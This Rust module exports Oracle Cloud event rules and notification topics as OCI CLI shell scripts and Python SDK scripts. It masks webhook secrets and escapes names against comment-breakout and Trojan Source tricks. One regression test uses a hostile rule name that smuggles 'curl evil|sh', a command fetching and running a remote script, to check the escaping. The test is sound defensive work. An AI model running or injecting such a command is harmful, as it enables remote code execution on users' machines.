//! A rule, or a topic with its subscriptions, written out as what a user would otherwise type: OCI
//! CLI commands with their `--from-json` documents, and a Python script for the official SDK.
//!
//! The CLI reads `--from-json` documents whose keys are its option names in camelCase
//! (`--compartment-id` → `compartmentId`, `--subscription-endpoint` → `subscriptionEndpoint`);
//! complex options such as `--actions` take the JSON the API takes. The Python uses the concrete
//! action classes (`CreateNotificationServiceActionDetails`, `CreateFaaSActionDetails`,
//! `CreateStreamingServiceActionDetails`): the abstract `ActionDetails` the seed workflow uses is
//! refused by the current SDK (`../shared/seed/NOTES.md`).
//!
//! Secrets never leave Signalbox, so an HTTPS endpoint with Basic credentials, or a Slack or
//! PagerDuty webhook URL, is exported with `****` in place of the secret and a comment saying to
//! put it back.

use crate::api::rules::{ActionKind, Rule, RuleAction};
use crate::api::subscriptions::Subscription;
use crate::api::topics::Topic;
use crate::model::text::disallowed as needs_escape;
use serde_json::{Value, json};

/// One resource as shell commands and as Python.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Export {
    /// A shell script: the `--from-json` documents written with here-documents, then the commands.
    pub cli: String,
    /// A Python script for the OCI SDK (`pip install oci`), reading `~/.oci/config`.
    pub python: String,
}

/// The rule as `oci events rule create` and as `EventsClient.create_rule`.
pub fn rule(rule: &Rule) -> Export {
    let condition = compact(&rule.condition);
    let document = json!({
        "compartmentId": rule.compartment_id,
        "displayName": rule.name,
        "description": rule.description,
        "isEnabled": rule.is_enabled,
        "condition": condition,
        "actions": {"actions": rule.actions.iter().map(cli_action).collect::<Vec<_>>()},
    });
    let cli = format!(
        "# The rule {name} as OCI CLI commands.\ncat > rule.json <<'JSON'\n{document}\nJSON\noci events rule create --from-json file://rule.json\n",
        name = literal(&rule.name),
        document = pretty(&document),
    );
    let actions: String = rule.actions.iter().map(python_action).collect();
    let python = format!(
        r#"# The rule {name} with the OCI Python SDK (pip install oci).
import os

import oci

config = oci.config.from_file(profile_name=os.environ.get("OCI_CLI_PROFILE", "DEFAULT"))
events = oci.events.EventsClient(config)

rule = events.create_rule(
    oci.events.models.CreateRuleDetails(
        compartment_id={compartment},
        display_name={display_name},
        description={description},
        is_enabled={enabled},
        # The condition is a string holding JSON, not a dict.
        condition={condition},
        actions=oci.events.models.ActionDetailsList(
            actions=[
{actions}            ]
        ),
    )
).data
print(f"Rule created: {{rule.id}} ({{rule.lifecycle_state}})")
"#,
        name = literal(&rule.name),
        compartment = literal(&rule.compartment_id),
        display_name = literal(&rule.name),
        description = literal(&rule.description),
        enabled = if rule.is_enabled { "True" } else { "False" },
        condition = literal(&condition),
    );
    Export { cli, python }
}

/// The topic and its subscriptions as `oci ons topic create` and `oci ons subscription create`,
/// and as the two Notifications clients.
pub fn topic(topic: &Topic, subscriptions: &[Subscription]) -> Export {
    let topic_document = json!({
        "compartmentId": topic.compartment_id,
        "name": topic.name,
        "description": topic.description,
    });
    let mut cli = format!(
        "# The topic {name} and its subscriptions as OCI CLI commands.\ncat > topic.json <<'JSON'\n{document}\nJSON\ntopic_id=$(oci ons topic create --from-json file://topic.json --query 'data.\"topic-id\"' --raw-output)\n",
        name = literal(&topic.name),
        document = pretty(&topic_document),
    );
    let mut python_subscriptions = String::new();
    for (n, subscription) in subscriptions.iter().enumerate() {
        let document = json!({
            "compartmentId": topic.compartment_id,
            "protocol": subscription.protocol,
            "subscriptionEndpoint": subscription.endpoint,
        });
        let file = format!("subscription-{}.json", n + 1);
        cli.push_str(&format!(
            "\n{}cat > {file} <<'JSON'\n{}\nJSON\n",
            password_note(subscription, "#"),
            pretty(&document)
        ));
        cli.push_str(&format!("oci ons subscription create --from-json file://{file} --topic-id \"$topic_id\"\n"));
        python_subscriptions.push_str(&format!(
            r#"{note}subscription = ons_data.create_subscription(
    oci.ons.models.CreateSubscriptionDetails(
        topic_id=topic.topic_id,
        compartment_id={compartment},
        protocol={protocol},
        endpoint={endpoint},
    )
).data
print(f"Subscription: {{subscription.id}} ({{subscription.lifecycle_state}})")
"#,
            note = password_note(subscription, "#"),
            compartment = literal(&topic.compartment_id),
            protocol = literal(&subscription.protocol),
            endpoint = literal(&subscription.endpoint),
        ));
    }
    let python = format!(
        r#"# The topic {name} and its subscriptions with the OCI Python SDK (pip install oci).
import os

import oci

config = oci.config.from_file(profile_name=os.environ.get("OCI_CLI_PROFILE", "DEFAULT"))
ons_control = oci.ons.NotificationControlPlaneClient(config)
ons_data = oci.ons.NotificationDataPlaneClient(config)

topic = ons_control.create_topic(
    oci.ons.models.CreateTopicDetails(
        compartment_id={compartment},
        name={topic_name},
        description={description},
    )
).data
print(f"Topic created: {{topic.topic_id}}")
{subscriptions}"#,
        name = literal(&topic.name),
        compartment = literal(&topic.compartment_id),
        topic_name = literal(&topic.name),
        description = literal(&topic.description),
        subscriptions =
            if python_subscriptions.is_empty() { String::new() } else { format!("\n{python_subscriptions}") },
    );
    Export { cli, python }
}

/// An action as the CLI's `--actions` JSON (the API's wire form).
fn cli_action(action: &RuleAction) -> Value {
    let mut value = json!({"actionType": action.kind.as_str(), "isEnabled": action.is_enabled});
    value[target_key(action.kind)] = json!(action.target_id);
    if !action.description.is_empty() {
        value["description"] = json!(action.description);
    }
    value
}

/// An action as the SDK's concrete class, indented for the `actions=[...]` list.
fn python_action(action: &RuleAction) -> String {
    let (class, field) = match action.kind {
        ActionKind::Notifications => ("CreateNotificationServiceActionDetails", "topic_id"),
        ActionKind::Functions => ("CreateFaaSActionDetails", "function_id"),
        ActionKind::Streaming => ("CreateStreamingServiceActionDetails", "stream_id"),
    };
    let description = if action.description.is_empty() {
        String::new()
    } else {
        format!("                    description={},\n", literal(&action.description))
    };
    format!(
        "                oci.events.models.{class}(\n                    is_enabled={},\n                    {field}={},\n{description}                ),\n",
        if action.is_enabled { "True" } else { "False" },
        literal(&action.target_id),
    )
}

fn target_key(kind: ActionKind) -> &'static str {
    match kind {
        ActionKind::Notifications => "topicId",
        ActionKind::Functions => "functionId",
        ActionKind::Streaming => "streamId",
    }
}

/// A comment line when the endpoint's password was withheld.
fn password_note(subscription: &Subscription, comment: &str) -> String {
    if subscription.endpoint.contains("****") {
        format!("{comment} Signalbox never shows secrets: replace **** in the endpoint with the real value.\n")
    } else {
        String::new()
    }
}

/// Condition text without the whitespace between tokens, so it reads on one line once quoted;
/// strings (and the order of fields) are kept exactly.
fn compact(text: &str) -> String {
    let (mut out, mut in_string, mut escaped) = (String::with_capacity(text.len()), false, false);
    for c in text.chars() {
        if in_string {
            in_string = escaped || c != '"';
            escaped = !escaped && c == '\\';
        } else if c == '"' {
            in_string = true;
        } else if c.is_whitespace() {
            continue;
        }
        out.push(c);
    }
    out
}

/// A double-quoted literal that reads the same in JSON, Python and HCL, with every character that
/// could end a line or reorder what a reader sees escaped as `\uXXXX`: control characters (C0,
/// DEL, C1), the Unicode line and paragraph separators, and the bidirectional controls ("Trojan
/// Source"). Names and values from users and from OCI go through it into exported scripts and
/// their comments, so a name holding a newline cannot end a comment and start a command.
pub(crate) fn literal(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if needs_escape(c) => push_escaped(&mut out, c),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Writes `c` as JSON's (and Python's) `\uXXXX` escapes, a surrogate pair above the BMP.
fn push_escaped(out: &mut String, c: char) {
    let mut units = [0u16; 2];
    for unit in c.encode_utf16(&mut units) {
        out.push_str(&format!("\\u{unit:04x}"));
    }
}

/// Pretty JSON with the characters of [`needs_escape`] written as `\uXXXX` (they can only occur
/// inside strings, where the escape means the same), so a document pasted from an export shows
/// what it holds.
fn pretty(value: &Value) -> String {
    let text = serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string());
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if needs_escape(c) && !matches!(c, '\n' | '\r' | '\t') {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::subscriptions::Subscription;

    fn sample_rule() -> Rule {
        serde_json::from_value(json!({
            "id": "ocid1.eventrule.oc1.iad.example",
            "name": "instance-state-changes",
            "description": "Compute \"lifecycle\"",
            "state": "ACTIVE",
            "state_message": null,
            "is_enabled": true,
            "condition": r#"{"eventType":["com.oraclecloud.computeapi.launchinstance.end"]}"#,
            "compartment_id": "ocid1.compartment.oc1..example",
            "created_at": "2026-11-30T10:00:00Z",
            "actions": [
                {"kind": "ONS", "target_id": "ocid1.onstopic.oc1.iad.example", "is_enabled": true, "description": "Notify"},
                {"kind": "FAAS", "target_id": "ocid1.fnfunc.oc1.iad.example", "is_enabled": false, "description": ""},
                {"kind": "OSS", "target_id": "ocid1.stream.oc1.iad.example", "is_enabled": true, "description": ""}
            ]
        }))
        .unwrap()
    }

    #[test]
    fn a_rule_exports_as_the_cli_document_and_concrete_sdk_classes() {
        let export = rule(&sample_rule());
        let document: String =
            export.cli.split("<<'JSON'\n").nth(1).and_then(|rest| rest.split("\nJSON\n").next()).unwrap().to_owned();
        let document: Value = serde_json::from_str(&document).unwrap();
        assert_eq!(document["displayName"], "instance-state-changes");
        assert_eq!(document["condition"], r#"{"eventType":["com.oraclecloud.computeapi.launchinstance.end"]}"#);
        assert_eq!(
            document["actions"]["actions"],
            json!([
                {"actionType": "ONS", "isEnabled": true, "topicId": "ocid1.onstopic.oc1.iad.example", "description": "Notify"},
                {"actionType": "FAAS", "isEnabled": false, "functionId": "ocid1.fnfunc.oc1.iad.example"},
                {"actionType": "OSS", "isEnabled": true, "streamId": "ocid1.stream.oc1.iad.example"}
            ])
        );
        assert!(export.cli.ends_with("oci events rule create --from-json file://rule.json\n"));
        for needle in [
            "oci.events.models.CreateNotificationServiceActionDetails(",
            "oci.events.models.CreateFaaSActionDetails(",
            "oci.events.models.CreateStreamingServiceActionDetails(",
            r#"description="Compute \"lifecycle\"","#,
            r#"condition="{\"eventType\":[\"com.oraclecloud.computeapi.launchinstance.end\"]}","#,
            "is_enabled=False,",
        ] {
            assert!(export.python.contains(needle), "{needle}\n{}", export.python);
        }
        assert!(!export.python.contains("models.ActionDetails("), "never the abstract class");
    }

    /// Defect 18.6: a name holding a newline landed raw in the scripts' comment line.
    #[test]
    fn a_name_cannot_break_out_of_a_comment() {
        let mut hostile = sample_rule();
        hostile.name = "x\ncurl evil|sh\r\u{2028}#".to_owned();
        let export = rule(&hostile);
        for script in [&export.cli, &export.python] {
            for line in script.lines() {
                assert!(!line.starts_with("curl"), "{line}\n{script}");
            }
            assert!(!script.contains('\r') && !script.contains('\u{2028}'), "{script}");
            assert!(script.contains(r#""x\ncurl evil|sh\r\u2028#""#), "{script}");
        }
    }

    #[test]
    fn literals_read_back_as_the_same_text_in_json() {
        for text in ["plain", "quote \" and \\", "tab\tnew\nline", "\u{7f}\u{85}\u{202e}rtl", "émoji 🚨", "\u{1}"] {
            let parsed: String = serde_json::from_str(&literal(text)).expect("valid JSON");
            assert_eq!(parsed, text);
            assert!(!literal(text).chars().any(needs_escape), "{text:?}");
        }
    }

    #[test]
    fn conditions_are_exported_on_one_line_with_strings_kept() {
        assert_eq!(
            compact("{\n  \"data\": {\"resourceName\": [\"a b\", \"q\\\" x\"]}\n}"),
            r#"{"data":{"resourceName":["a b","q\" x"]}}"#
        );
    }

    #[test]
    fn a_topic_exports_with_its_subscriptions_and_no_password() {
        let topic: Topic = serde_json::from_value(json!({
            "id": "ocid1.onstopic.oc1.iad.example", "name": "infra-alerts", "compartment_id": "ocid1.compartment.oc1..example",
            "state": "ACTIVE", "description": "Infrastructure alerts", "created_at": "2026-11-30T10:00:00Z",
            "subscriptions": {"active": 1, "pending": 1, "other": 0}
        }))
        .unwrap();
        let subscription = |protocol: &str, endpoint: &str| Subscription {
            id: "ocid1.onssubscription.oc1.iad.example".to_owned(),
            topic_id: topic.id.clone(),
            topic_name: None,
            protocol: protocol.to_owned(),
            endpoint: endpoint.to_owned(),
            state: "ACTIVE".to_owned(),
            created_at: None,
            age_seconds: None,
        };
        let export = super::topic(
            &topic,
            &[
                subscription("EMAIL", "ops@example.com"),
                subscription("CUSTOM_HTTPS", "https://bot:****@hooks.example.com/in"),
            ],
        );
        assert!(export.cli.contains("\"subscriptionEndpoint\": \"ops@example.com\""), "{}", export.cli);
        assert_eq!(export.cli.matches("--topic-id \"$topic_id\"").count(), 2);
        assert!(export.cli.contains("replace **** in the endpoint"));
        assert!(export.python.contains("topic_id=topic.topic_id,"));
        assert!(export.python.contains(r#"protocol="CUSTOM_HTTPS","#));
        assert_eq!(export.python.matches("replace **** in the endpoint").count(), 1);
    }
}
